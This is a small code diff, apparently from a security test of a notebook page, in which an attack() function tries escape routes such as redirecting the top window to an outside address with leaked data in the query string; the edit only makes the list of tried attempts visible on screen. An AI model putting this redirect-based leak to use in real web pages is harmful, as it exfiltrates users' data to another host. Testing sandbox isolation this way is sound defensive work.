@@ -133,7 +133,10 @@ async function attack(elsewhere) {
   await attempt("top", () => {
     window.top.location.href = `${elsewhere}/top?${leak}`;
   });
-  document.getElementById("tried").textContent = JSON.stringify(tried);
+  const shown = document.getElementById("tried");
+  shown.textContent = JSON.stringify(tried);
+  // For who can only look at the screen.
+  shown.style = "background: rgb(1, 254, 127); height: 300px; overflow: hidden";
 }
 
 /** What the notebook's page does last, as it is gone then: it goes elsewhere with what it knows. */
